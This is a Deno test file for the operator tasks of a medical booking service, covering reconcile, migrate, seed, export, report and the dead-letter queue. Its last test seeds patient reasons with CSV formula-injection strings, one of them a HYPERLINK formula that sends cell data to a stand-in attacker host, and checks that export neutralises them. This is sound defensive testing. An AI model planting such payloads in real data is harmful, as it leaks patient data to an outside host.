/**
 * Operator tasks against what they must refuse or reach: reconcile's grace below the servers'
 * claim grace (it would delete an in-flight booking's claims and take the servers' locks while
 * held), and the tasks that read the event and audit state on a shared KV server (denokv).
 */
import assert from "node:assert/strict";
import { generateDataKeyBase64 } from "../../src/crypto/data_cipher.ts";
import { generateSigningJwk } from "../../src/crypto/secrets.ts";
import { addDeadLetter } from "../../src/events/dead_letters.ts";
import { ENVELOPE_KIND } from "../../src/events/event_types.ts";
import { keySpace } from "../../src/stores/kv/keys.ts";
import { startDenoKv } from "../_harness/denokv.ts";
import { startFerretDb, withRawDb } from "../_harness/ferretdb.ts";
import { runTask, spawnTask } from "./_run_task.ts";
import { toDocument } from "../../src/stores/mongo/documents.ts";
import { appointment, doctor, id, T0 } from "../contract/_fixtures.ts";
import { openOperatorRuntime } from "../../src/bootstrap.ts";
import { loadConfig } from "../../src/config/config.ts";
import { createLogger } from "../../src/observability/logger.ts";

Deno.test("reconcile refuses --grace-seconds below the servers' claim grace", async () => {
  const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
  for (const grace of ["0", "10", "29"]) {
    const res = await runTask("reconcile", ["--grace-seconds", grace], dir);
    assert.equal(res.code, 2, `--grace-seconds ${grace} was accepted: ${res.stdout}`);
    assert.match(res.stderr, /--grace-seconds/);
  }
  const ok = await runTask("reconcile", ["--grace-seconds", "30"], dir);
  assert.equal(ok.code, 0, ok.stderr);
});

Deno.test({
  name: "dlq and audit:verify run against a shared KV server (KV_PATH=denokv URL)",
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    const denokv = await startDenoKv();
    try {
      const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
      const dlq = await runTask("dlq", ["list"], dir, denokv.env);
      assert.equal(dlq.code, 0, dlq.stderr);
      assert.match(dlq.stdout, /dead-letter list is empty/);
      const audit = await runTask("audit:verify", [], dir, denokv.env);
      assert.equal(audit.code, 0, audit.stderr);
      assert.match(audit.stdout, /Audit chain intact/);
    } finally {
      await denokv.stop();
    }
  },
});

/** A complete production configuration (fake Twilio), as `loadConfig` accepts it. */
async function productionEnv(): Promise<Record<string, string>> {
  return {
    APP_ENV: "production",
    PUBLIC_BASE_URL: "https://api.vaidya.example",
    TWILIO_ACCOUNT_SID: "AC00000000000000000000000000000000",
    TWILIO_AUTH_TOKEN: "not-a-real-token",
    TWILIO_FROM: "+15005550006",
    JWT_PRIVATE_JWKS: JSON.stringify([await generateSigningJwk("jwt-test")]),
    DATA_ENCRYPTION_KEYS: `k1:${generateDataKeyBase64()}`,
    HMAC_SECRET: generateDataKeyBase64(),
    AUDIT_KEY: `a1:${generateDataKeyBase64()}`,
  };
}

Deno.test("seed refuses to write demo people with made-up phone numbers into a production store", async () => {
  const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
  const env = await productionEnv();
  const res = await runTask("seed", ["--doctors", "2", "--patients", "2"], dir, env);
  assert.notEqual(res.code, 0, `seeded a production store: ${res.stdout}`);
  assert.match(res.stderr, /APP_ENV=production/);
  await Deno.mkdir(`${dir}/data`, { recursive: true });
  const kv = await Deno.openKv(`${dir}/data/vaidya.kv`);
  try {
    let doctors = 0;
    for await (const _ of kv.list({ prefix: keySpace("doctor") })) doctors++;
    assert.equal(doctors, 0, "no doctor written");
  } finally {
    kv.close();
  }
});

Deno.test("migrate and reconcile refuse --dry-run where they would not honour it", async () => {
  const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
  // reconcile is a dry run unless --fix: `--fix --dry-run` repaired all the same.
  const both = await runTask("reconcile", ["--fix", "--dry-run", "--yes"], dir);
  assert.equal(both.code, 2, `reconcile --fix --dry-run was accepted: ${both.stdout}`);
  assert.match(both.stderr, /--dry-run/);
  // migrate took --dry-run and created every collection and index anyway.
  const mongo = await startFerretDb();
  try {
    const dbName = mongo.database();
    const env = { MONGODB_URI: mongo.uri, MONGODB_DB: dbName };
    const res = await runTask("migrate", ["--dry-run"], dir, env);
    const collections = await withRawDb(mongo, dbName, (db) => db.listCollections().toArray());
    assert.deepEqual(collections.map((c) => c.name), [], `migrate --dry-run: ${res.stdout}`);
    assert.equal(res.code, 2, res.stderr);
    assert.match(res.stderr, /--dry-run/);
  } finally {
    await mongo.stop();
  }
});

Deno.test("export and report refuse --dry-run instead of writing their files anyway", async () => {
  const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
  const day = "2026-12-01";
  const cases: [string, string[], string][] = [
    ["export", ["--from", day, "--to", day, "--out", `${dir}/out/a.csv`], `${dir}/out/a.csv`],
    ["report", ["--date", day, "--svg", `${dir}/out/u.svg`], `${dir}/out/u.svg`],
  ];
  for (const [name, args, file] of cases) {
    const res = await runTask(name, [...args, "--dry-run"], dir);
    const written = await Deno.stat(file).then(() => true, () => false);
    assert.equal(written, false, `${name} --dry-run wrote ${file}`);
    assert.equal(res.code, 2, `${name}: ${res.stderr}`);
    assert.match(res.stderr, /--dry-run/);
  }
});

Deno.test("dlq sees every dead letter, not the first 1,000: list, replay --id and --all", async () => {
  const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
  await Deno.mkdir(`${dir}/data`);
  const kv = await Deno.openKv(`${dir}/data/vaidya.kv`);
  const ids: string[] = [];
  try {
    // The audit key a server that ran on this store generated: a replay is an audit entry.
    await kv.set(["secret", "audit_keys"], [{ id: "a1", keyBase64: generateDataKeyBase64() }]);
    const nowMs = Date.now();
    for (let i = 0; i < 1_005; i++) {
      await addDeadLetter(
        kv,
        {
          kind: ENVELOPE_KIND,
          handler: "webhooks.deliver",
          event: { id: `evt-${i}`, type: "webhook.delivery", occurredAtMs: 0, data: {} },
          attempt: 4,
          notBeforeMs: 0,
        },
        "Endpoint answered 500",
        nowMs + i,
      );
    }
    for await (const e of kv.list({ prefix: keySpace("event_dlq") })) ids.push(String(e.key[1]));
  } finally {
    kv.close();
  }
  assert.equal(ids.length, 1_005);
  const list = await runTask("dlq", ["list"], dir);
  assert.equal(list.code, 0, list.stderr);
  assert.equal(list.stdout.trim().split("\n").length, 1_005, "every dead letter listed");
  const last = ids.at(-1)!;
  const one = await runTask("dlq", ["replay", "--id", last, "--yes"], dir);
  assert.equal(one.code, 0, `replay --id of the 1,005th: ${one.stderr}`);
  const all = await runTask("dlq", ["replay", "--all", "--yes"], dir);
  assert.equal(all.code, 0, all.stderr);
  assert.match(all.stdout, /Replayed 1004 of 1004/);
});

Deno.test({
  name:
    "reconcile --fix with a long --grace-seconds takes a crashed server's lock after the servers' lease",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const mongo = await startFerretDb();
    const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
    try {
      const dbName = mongo.database();
      const doctorId = id("doc");
      // Booked an hour ago; its busy entry missing (a crash), and the lock of its entry left by
      // the crashed server 20 s ago: past the servers' lease (15 s), so any server takes it.
      const booked = appointment(doctorId, id("pat"), 0, 30, {
        updatedAt: new Date(Date.now() - 3_600_000).toISOString(),
      });
      await withRawDb(mongo, dbName, async (db) => {
        await db.collection<{ _id: string }>("doctors").insertOne({ _id: doctorId });
        await db.collection("appointments").insertOne(toDocument(booked) as never);
        await db.collection<{ _id: string; token: string; acquiredAt: Date }>("locks").insertOne({
          _id: `busy:${booked.id}`,
          token: "crashed",
          acquiredAt: new Date(Date.now() - 20_000),
        });
      });
      const child = spawnTask(
        "reconcile",
        ["--fix", "--yes", "--grace-seconds", "600"],
        dir,
        { MONGODB_URI: mongo.uri, MONGODB_DB: dbName },
        "piped",
      );
      const timer = setTimeout(() => child.kill("SIGKILL"), 30_000);
      const out = await child.output();
      clearTimeout(timer);
      const stdout = new TextDecoder().decode(out.stdout);
      assert.equal(out.code, 0, `reconcile still waiting after 30 s: ${stdout}`);
      assert.match(stdout, /unlisted_booking/);
    } finally {
      await mongo.stop();
    }
  },
});

Deno.test("export writes its file (patient data, medical text with --include-medical) for its owner only", async () => {
  const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
  const day = "2026-12-01";
  const fresh = `${dir}/out/a.csv`;
  const res = await runTask(
    "export",
    ["--from", day, "--to", day, "--include-medical", "--out", fresh],
    dir,
  );
  assert.equal(res.code, 0, res.stderr);
  assert.equal((await Deno.stat(fresh)).mode! & 0o077, 0, "a new file: no group or other access");
  // An earlier file readable by all is replaced by one that is not.
  const earlier = `${dir}/out/b.jsonl`;
  await Deno.writeTextFile(earlier, "old\n", { mode: 0o644 });
  await Deno.chmod(earlier, 0o644);
  const again = await runTask(
    "export",
    [
      "--from",
      day,
      "--to",
      day,
      "--format",
      "jsonl",
      "--include-medical",
      "--out",
      earlier,
      "--yes",
    ],
    dir,
  );
  assert.equal(again.code, 0, again.stderr);
  assert.equal(await Deno.readTextFile(earlier), "", "replaced");
  assert.equal(
    (await Deno.stat(earlier)).mode! & 0o077,
    0,
    "a replaced file: no group or other access",
  );
});

Deno.test("export --include-medical writes a patient's reason that looks like a formula as text, not a formula", async () => {
  const dir = await Deno.makeTempDir({ prefix: "vaidya-ops-" });
  await Deno.mkdir(`${dir}/data`);
  const config = loadConfig({ KV_PATH: `${dir}/data/vaidya.kv` });
  const rt = await openOperatorRuntime(config, createLogger({ level: "error", write: () => {} }));
  const reasons = [
    '=HYPERLINK("https://evil.example/?"&A2,"details")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
  ];
  try {
    const d = doctor();
    await rt.records.doctors.create(d);
    for (const [i, reason] of reasons.entries()) {
      await rt.records.appointments.book(
        appointment(d.id, id("pat"), i * 60, 30, { reasonSealed: await rt.cipher.seal(reason) }),
      );
    }
  } finally {
    await rt.close();
  }
  const day = new Date(T0).toISOString().slice(0, 10);
  const res = await runTask("export", ["--from", day, "--to", day, "--include-medical"], dir);
  assert.equal(res.code, 0, res.stderr);
  const cells = res.stdout.trim().split("\n").slice(1).map((line) => line.split(",")[11]);
  assert.equal(cells.length, reasons.length, res.stdout);
  for (const cell of cells) {
    assert.doesNotMatch(cell.replace(/^"/, ""), /^[=+\-@]/, `a formula cell: ${cell}`);
  }
});
